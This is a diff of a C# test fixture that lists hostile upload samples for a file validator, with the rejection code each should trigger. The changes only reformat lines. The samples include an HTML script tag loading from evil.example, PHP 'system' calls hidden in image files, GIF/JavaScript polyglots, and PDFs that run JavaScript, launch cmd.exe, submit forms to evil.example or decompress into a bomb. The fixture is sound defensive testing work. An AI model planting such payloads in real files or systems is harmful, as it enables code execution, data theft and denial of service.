@@ -10,7 +10,11 @@ public static class HostileFiles
     private static readonly byte[] Archive = Zip.For(("evil.txt", Bytes.For("зло")));
 
     public static readonly IReadOnlyDictionary<string, (string Code, byte[] Content)> All =
-        Pages().Concat(Pictured()).Concat(Printed()).Concat(HostileArchives.All).Concat(Broken()).ToDictionary(one => one.Name, one => (one.Code, one.Content));
+        Pages().Concat(Pictured())
+            .Concat(Printed())
+            .Concat(HostileArchives.All)
+            .Concat(Broken())
+            .ToDictionary(one => one.Name, one => (one.Code, one.Content));
 
     private static IEnumerable<(string Name, string Code, byte[] Content)> Pages() =>
     [
@@ -18,7 +22,10 @@ public static class HostileFiles
         ("SVG after blanks and a mark", "file-type-refused", Bytes.For("\uFEFF \r\n" + Svg)),
         ("SVG after words", "file-type-refused", Bytes.For("Виж: " + Svg)),
         ("SVG in UTF-16", "file-type-refused", [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(Svg)]),
-        ("SVG in UTF-16, the other way", "file-type-refused", [.. Encoding.BigEndianUnicode.GetPreamble(), .. Encoding.BigEndianUnicode.GetBytes(Svg)]),
+        ("SVG in UTF-16, the other way", "file-type-refused",
+        [
+            .. Encoding.BigEndianUnicode.GetPreamble(), .. Encoding.BigEndianUnicode.GetBytes(Svg)
+        ]),
         ("SVG, packed", "file-type-refused", [0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3, 1, 2, 3, 4]),
         ("HTML", "file-type-refused", Bytes.For("<!DOCTYPE html>" + Page)),
         ("HTML after words, in capitals", "file-disguised", Bytes.For("Добър ден\n<SCRIPT SRC=//evil.example></SCRIPT>")),
@@ -44,7 +51,8 @@ public static class HostileFiles
         ("JPEG with HTML behind", "file-disguised", [.. Pictures.Jpeg(), .. Bytes.For(Page)]),
         ("JPEG with an archive behind", "file-disguised", [.. Pictures.Jpeg(), .. Archive]),
         ("JPEG with a JPEG behind", "file-disguised", [.. Pictures.Jpeg(), .. Pictures.Jpeg()]),
-        ("JPEG with PHP in its profile", "file-disguised", Pictures.Jpeg(8, 8, Pictures.Segment(0xE2, Bytes.For("ICC_PROFILE\0\u0001\u0001<?php system('id'); ?>")))),
+        ("JPEG with PHP in its profile", "file-disguised", Pictures.Jpeg(
+            8, 8, Pictures.Segment(0xE2, Bytes.For("ICC_PROFILE\0\u0001\u0001<?php system('id'); ?>")))),
         ("JPEG that is a page from its second byte", "file-damaged", [0xFF, 0xD8, 0xFF, .. Bytes.For(Page)]),
         ("PNG with PHP behind", "file-disguised", [.. Pictures.Png(), .. Bytes.For("<?php system('id');")]),
         ("PNG with PHP in its colours", "file-disguised", Pictures.Png(4, 4, Pictures.Chunk("PLTE", Bytes.For("<?php echo 1;?>")))),
@@ -53,18 +61,23 @@ public static class HostileFiles
         ("PNG with an unknown critical chunk", "file-damaged", Pictures.Png(4, 4, Pictures.Chunk("EVIL", [1]))),
         ("PNG without a picture", "file-damaged", [.. Pictures.Png()[..33], .. Pictures.Chunk("IEND", [])]),
         ("GIF that is a script", "picture-too-large", [.. "GIF89a/*"u8, .. "////"u8, .. Bytes.For("*/=1;alert(1)//;")]),
-        ("GIF that is a smaller script", "file-damaged", [.. "GIF89a"u8, (byte)'=', 0, (byte)'1', 0, 0, 0, 0, .. Bytes.For("*/=1;alert(1)//")]),
+        ("GIF that is a smaller script", "file-damaged",
+        [
+            .. "GIF89a"u8, (byte)'=', 0, (byte)'1', 0, 0, 0, 0, .. Bytes.For("*/=1;alert(1)//")
+        ]),
         ("GIF with a script behind", "file-disguised", [.. Pictures.Gif(), .. Bytes.For(";alert(1)")]),
         ("GIF with an archive behind", "file-disguised", [.. Pictures.Gif(), .. Archive]),
         ("GIF whose frame hangs out", "file-damaged", Pictures.Gif(1, 1)),
         ("GIF of no known version", "file-type-refused", [.. "GIF88a"u8, .. Pictures.Gif()[6..]]),
         ("WebP with HTML behind", "file-disguised", [.. Pictures.Webp(), .. Bytes.For(Page)]),
-        ("WebP that says another size than it has", "file-damaged", Bytes.Replaced(Pictures.Webp(), [0x2F, 0, 0, 0, 0], [0x2F, 7, 0, 0, 0])),
+        ("WebP that says another size than it has", "file-damaged", Bytes.Replaced(
+            Pictures.Webp(), [0x2F, 0, 0, 0, 0], [0x2F, 7, 0, 0, 0])),
         ("JPEG of too many pixels", "picture-too-large", Pictures.Jpeg(65_000, 65_000)),
         ("PNG of too many pixels", "picture-too-large", Pictures.Png(100_000, 100_000)),
         ("PNG of less than no pixels", "file-damaged", Pictures.Png(-1, 4)),
         ("GIF of too many pixels", "picture-too-large", Pictures.Gif(65_535, 65_535)),
-        ("WebP of too many pixels", "picture-too-large", Bytes.Replaced(Pictures.Webp(), [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, .. "VP8L"u8], [0, 0, 0, 0, 255, 255, 0, 255, 255, 0, .. "VP8L"u8])),
+        ("WebP of too many pixels", "picture-too-large", Bytes.Replaced(
+            Pictures.Webp(), [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, .. "VP8L"u8], [0, 0, 0, 0, 255, 255, 0, 255, 255, 0, .. "VP8L"u8])),
         ("JPEG without pixels", "file-damaged", Pictures.Jpeg(8, 0)),
     ];
 
@@ -78,15 +91,19 @@ public static class HostileFiles
         ("PDF with a program", "file-active", Documents.Pdf("<< /S /JavaScript /JS (app.alert(1)) >>")),
         ("PDF with a program, its name escaped", "file-active", Documents.Pdf("<< /S /J#61va#53cript /JS (app.alert(1)) >>")),
         ("PDF that opens with a program", "file-active", Documents.Pdf("<< /OpenAction << /S/JavaScript/JS(app.alert(1))>> >>")),
-        ("PDF with a program among packed objects", "file-active", Documents.Pdf(Documents.PackedStream("/Type /ObjStm /N 1 /First 4", "5 0 << /S /JavaScript /JS (x) >>"))),
-        ("PDF with a program far inside packed objects", "file-active", Documents.Pdf(Documents.PackedStream("/Type /ObjStm", new string(' ', 65_531) + "/JavaScript "))),
-        ("PDF with objects packed twice", "file-active", Documents.Pdf("<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n789C>\nendstream")),
+        ("PDF with a program among packed objects", "file-active", Documents.Pdf(
+            Documents.PackedStream("/Type /ObjStm /N 1 /First 4", "5 0 << /S /JavaScript /JS (x) >>"))),
+        ("PDF with a program far inside packed objects", "file-active", Documents.Pdf(
+            Documents.PackedStream("/Type /ObjStm", new string(' ', 65_531) + "/JavaScript "))),
+        ("PDF with objects packed twice", "file-active", Documents.Pdf(
+            "<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n789C>\nendstream")),
         ("PDF that starts a program", "file-active", Documents.Pdf("<< /S /Launch /F (cmd.exe) >>")),
         ("PDF with a file inside", "file-active", Documents.Pdf("<< /Type /EmbeddedFile >>")),
         ("PDF that sends a form", "file-active", Documents.Pdf("<< /S /SubmitForm /F (http://evil.example) >>")),
         ("PDF with a form that is a program", "file-active", Documents.Pdf("<< /XFA [] >>")),
         ("PDF that is locked", "file-locked", Documents.Pdf("<< /Encrypt 9 0 R >>")),
-        ("PDF that is a bomb", "file-swollen", Documents.Pdf([.. Enumerable.Repeat(Documents.PackedStream("", new string('a', 30_000_000)), 9)])),
+        ("PDF that is a bomb", "file-swollen", Documents.Pdf(
+            [.. Enumerable.Repeat(Documents.PackedStream("", new string('a', 30_000_000)), 9)])),
     ];
 
     /// <summary>Every good file, cut in the middle and shortly before its end, and the ones that are no file at all.</summary>
